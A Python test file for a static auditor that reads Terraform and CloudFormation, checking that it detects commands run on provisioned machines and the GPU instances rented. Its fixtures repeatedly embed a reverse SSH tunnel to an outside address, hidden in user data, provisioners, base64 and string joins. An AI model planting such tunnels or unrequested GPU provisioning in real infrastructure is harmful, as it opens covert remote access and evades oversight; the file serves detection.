"""Infrastructure code: machines rented by Terraform and CloudFormation, and what runs on them and here."""

# ruff: noqa: E501  (texts of carriers are read more easily whole)

from __future__ import annotations

import base64
import json

import pytest

from auditor.intake.languages import recognise
from auditor.model.unit import Language
from tests.read.carriers.readings import TUNNEL, effects_of, line_of, read


def machine(inside: str, kind: str = "aws_instance") -> str:
    return f'resource "{kind}" "x" {{\n{inside}\n}}\n'


ENCODED = base64.b64encode(f"#!/bin/sh\n{TUNNEL}\n".encode()).decode()
RUN = {
    "user data": machine(f"user_data = <<-EOF\n    #!/bin/bash\n    set -e\n    {TUNNEL}\n  EOF"),
    "user data in quotes": machine(f'user_data = "#!/bin/sh\\n{TUNNEL}\\n"'),
    "user data in base64": machine(f'user_data_base64 = base64encode("#!/bin/sh\\n{TUNNEL}")'),
    "user data decoded": machine(f'user_data = base64decode("{ENCODED}")'),
    "user data encoded": machine(f'user_data_base64 = "{ENCODED}"'),
    "user data as cloud-config": machine(f"user_data = <<EOF\n#cloud-config\nruncmd:\n  - {TUNNEL}\nEOF"),
    "local-exec": machine(f'provisioner "local-exec" {{\n command = "{TUNNEL}"\n }}', "null_resource"),
    "local-exec on one line": f'resource "null_resource" "x" {{ provisioner "local-exec" {{ command = "{TUNNEL}" }} }}',
    "local-exec heredoc": machine(f'provisioner "local-exec" {{\n command = <<EOT\ntrue\n{TUNNEL}\nEOT\n }}'),
    "local-exec interpreter": machine(
        f'provisioner "local-exec" {{\n interpreter = ["python3", "-c"]\n command = "import os; os.system(\'{TUNNEL}\')"\n}}'
    ),
    "remote-exec": machine(f'provisioner "remote-exec" {{\n inline = [\n "true",\n "{TUNNEL}",\n ]\n }}'),
    "variable": 'variable "h" { default = "203.0.113.7" }\n'
    + machine('provisioner "local-exec" { command = "ssh -N -R 2222:localhost:22 agent@${var.h}" }'),
    "locals and join": 'locals {\n a = "ss"\n w = [ "${local.a}h", "-N", "-R", "2222:localhost:22", "agent@203.0.113.7" ]\n}\n'
    + machine('provisioner "local-exec" { command = join(" ", local.w) }'),
    "format": machine(
        'provisioner "local-exec" { command = format("%s -N -R %d:localhost:22 agent@203.0.113.7", "ssh", 2222) }'
    ),
    "external": 'data "external" "x" {\n program = ["sh", "-c", "' + TUNNEL + '"]\n}',
    "startup script": machine(f"metadata_startup_script = <<X\n#!/bin/sh\n{TUNNEL}\nX", "google_compute_instance"),
    "metadata": machine(
        f"metadata = {{\n  startup-script = <<X\n#!/bin/sh\n{TUNNEL}\nX\n }}", "google_compute_instance"
    ),
    "custom data": machine(f'custom_data = base64encode("#!/bin/sh\\n{TUNNEL}")', "azurerm_linux_virtual_machine"),
}


@pytest.mark.parametrize("text", RUN.values(), ids=RUN.keys())
def test_terraform_runs(text: str) -> None:
    """What a plan starts here or on its machines is read."""
    assert TUNNEL in effects_of(text, Language.TERRAFORM)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (machine('count = 4\ninstance_type = "p4d.24xlarge"'), "cloud.provision aws ec2 p4d.24xlarge 4 default"),
        (
            'provider "aws" { region = "us-east-1" }\n' + machine('instance_type = "p5.48xlarge"'),
            "cloud.provision aws ec2 p5.48xlarge 1 us-east-1",
        ),
        (
            'variable "t" {\n type = string\n default = "g5.xlarge"\n}\n' + machine("instance_type = var.t"),
            "cloud.provision aws ec2 g5.xlarge 1 default",
        ),
        (
            machine(
                'machine_type = "n1-standard-8"\nzone = "us-central1-a"\nguest_accelerator {\n type = "nvidia-tesla-t4"\n'
                " count = 4\n}",
                "google_compute_instance",
            ),
            "cloud.provision gcp compute nvidia-tesla-t4 4 us-central1-a",
        ),
        (
            machine('size = "Standard_ND96asr_v4"\nlocation = "westeurope"', "azurerm_linux_virtual_machine"),
            "cloud.provision azure compute Standard_ND96asr_v4 1 westeurope",
        ),
        (
            machine('instance_type = "ecs.gn7i-c8g1.2xlarge"', "alicloud_instance"),
            "cloud.provision aliyun ecs ecs.gn7i-c8g1.2xlarge 1 default",
        ),
        (
            machine('shape = "BM.GPU.H100.8"', "oci_core_instance"),
            "cloud.provision oci compute BM.GPU.H100.8 1 default",
        ),
        (
            machine('gpu_type_id = "NVIDIA A100 80GB PCIe"\ngpu_count = 8', "runpod_pod"),
            "cloud.provision runpod pod NVIDIA A100 80GB PCIe 8 default",
        ),
        (
            machine('instance_types = ["p4d.24xlarge"]\nscaling_config {\n desired_size = 8\n}', "aws_eks_node_group"),
            "cloud.provision aws eks p4d.24xlarge 8 default",
        ),
        (machine("", "digitalocean_droplet"), "cloud.provision digitalocean droplet default 1 default"),
    ],
)
def test_terraform_rents(text: str, expected: str) -> None:
    """A resource that is a machine is rented, with kind, count and place."""
    assert effects_of(text, Language.TERRAFORM) == [expected]


def test_an_unknown_kind_is_unknown() -> None:
    """A variable without a default leaves a hole, not a guess."""
    assert effects_of(machine("instance_type = var.kind"), Language.TERRAFORM)[0].startswith(
        "cloud.provision aws ec2 %{"
    )


@pytest.mark.parametrize(
    "text",
    [
        f"# {TUNNEL}\n/* {TUNNEL} */\n// {TUNNEL}\n",
        f'resource "aws_s3_bucket" "b" {{ bucket = "{TUNNEL}" }}',
        f'output "help" {{ value = "{TUNNEL}" }}',
        f'data "aws_instance" "x" {{ instance_tags = {{ a = "{TUNNEL}" }} }}',
        f'variable "x" {{ description = "{TUNNEL}" }}',
        'module "a" { source = "./a" }\nterraform { required_version = ">= 1.0" }\nlocals { x = 1 }',
    ],
)
def test_mention_is_not_use(text: str) -> None:
    """Comments, descriptions, outputs and resources that are no machines have no effect."""
    assert effects_of(text, Language.TERRAFORM) == []


def test_places_in_terraform() -> None:
    """A command inside user data is reported on its own line."""
    assert line_of(read(RUN["user data"], Language.TERRAFORM), TUNNEL) == 5


HOSTILE = {
    "braces": "{" * 100_000,
    "blocks": "a {\n" * 20_000,
    "brackets": "a = " + "[" * 100_000,
    "calls": machine("user_data = " + "join(" * 5_000),
    "quotes": 'a = "' + "${" * 20_000,
    "quotes in quotes": "a = " + '"${"' * 20_000,
    "heredoc": "a = <<EOF\n" + "x\n" * 20_000,
    "circle": "locals {\n a = local.b\n b = local.a\n}\n" + machine("user_data = local.a"),
    "doubling": 'locals {\n a0 = "xxxxxxxxxx"\n'
    + "\n".join(f' a{n + 1} = "${{local.a{n}}}${{local.a{n}}}"' for n in range(40))
    + "\n}\n"
    + machine("user_data = local.a40"),
    "comment": "/*" * 50_000,
    "NUL": 'a = "\0"\n\0{',
    "ternaries": machine("user_data = " + "a ? " * 5_000),
    "escapes": 'a = "' + "\\" * 50_001,
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_terraform_is_survived(text: str) -> None:
    """Nothing raises and nothing explodes."""
    assert len(read(text, Language.TERRAFORM).effects) < 10


def template(resources: dict[str, object], **more: object) -> str:
    return json.dumps({"AWSTemplateFormatVersion": "2010-09-09", **more, "Resources": resources}, indent=1)


def resource(kind: str, **properties: object) -> dict[str, object]:
    return {"Type": f"AWS::{kind}", "Properties": properties}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            template({"a": resource("EC2::Instance", InstanceType="p4d.24xlarge")}),
            "cloud.provision aws ec2 p4d.24xlarge 1 default",
        ),
        (
            template(
                {"a": resource("EC2::Instance", InstanceType={"Ref": "T"})}, Parameters={"T": {"Default": "g5.xlarge"}}
            ),
            "cloud.provision aws ec2 g5.xlarge 1 default",
        ),
        (
            template({"a": resource("EC2::LaunchTemplate", LaunchTemplateData={"InstanceType": "p5.48xlarge"})}),
            "cloud.provision aws ec2 p5.48xlarge 1 default",
        ),
        (
            template(
                {
                    "a": resource(
                        "AutoScaling::AutoScalingGroup",
                        MaxSize="8",
                        MixedInstancesPolicy={"LaunchTemplate": {"Overrides": [{"InstanceType": "p4d.24xlarge"}]}},
                    )
                }
            ),
            "cloud.provision aws autoscaling p4d.24xlarge 8 default",
        ),
        (
            template(
                {
                    "a": resource(
                        "SageMaker::EndpointConfig",
                        ProductionVariants=[{"InstanceType": "ml.p4d.24xlarge", "InitialInstanceCount": 2}],
                    )
                }
            ),
            "cloud.provision aws sagemaker ml.p4d.24xlarge 2 default",
        ),
        (
            "Resources:\n  A:\n    Type: AWS::EC2::Instance\n    Properties:\n      InstanceType: !FindInMap [M, k, t]\n"
            "Mappings: {M: {k: {t: p4d.24xlarge}}}\n",
            "cloud.provision aws ec2 p4d.24xlarge 1 default",
        ),
    ],
)
def test_cloudformation_rents(text: str, expected: str) -> None:
    """Resources that are machines are rented, in JSON and in YAML."""
    assert expected in effects_of(text, Language.MANIFEST)


USER_DATA = {
    "sub": "        Fn::Base64: !Sub |\n          #!/bin/bash\n          set -e\n          ssh -N -R ${P}:localhost:22 agent@203.0.113.7\n",
    "short": f"        !Base64 |\n          #!/bin/bash\n          {TUNNEL}\n",
    "join": "        Fn::Base64:\n          Fn::Join: ['', ['#!/bin/sh', \"\\n\", 'ssh -N -R ', !Ref P, ':localhost:22 agent@203.0.113.7']]\n",
    "encoded": f"        {ENCODED}\n",
}


@pytest.mark.parametrize("data", USER_DATA.values(), ids=USER_DATA.keys())
def test_cloudformation_runs(data: str) -> None:
    """User data is a script, whichever functions make it."""
    text = (
        "Parameters: {P: {Type: String, Default: '2222'}}\nResources:\n  A:\n    Type: AWS::EC2::Instance\n    Properties:\n"
        f"      InstanceType: t3.micro\n      UserData:\n{data}"
    )
    assert TUNNEL in effects_of(text, Language.MANIFEST)


def test_templates_are_recognised() -> None:
    """Infrastructure code is told from data by name and content."""
    text = template({"a": resource("EC2::Instance", InstanceType="t3.micro")})
    assert recognise("stack.json", text) is Language.MANIFEST
    assert recognise("stack.yaml", "Resources:\n  A:\n    Type: AWS::EC2::Instance\n") is Language.MANIFEST
    assert recognise("main.tf", "") is Language.TERRAFORM
    assert recognise("package.json", '{"scripts": {"test": "jest"}}') is Language.DATA
    assert recognise("user-data.yaml", "#cloud-config\nruncmd: [id]\n") is Language.MANIFEST


def test_deep_templates_are_survived() -> None:
    """Functions inside functions end at a bound."""
    inner: object = "x"
    for _ in range(60):
        inner = {"Fn::Base64": inner}
    read(template({"a": resource("EC2::Instance", UserData=inner)}), Language.MANIFEST)
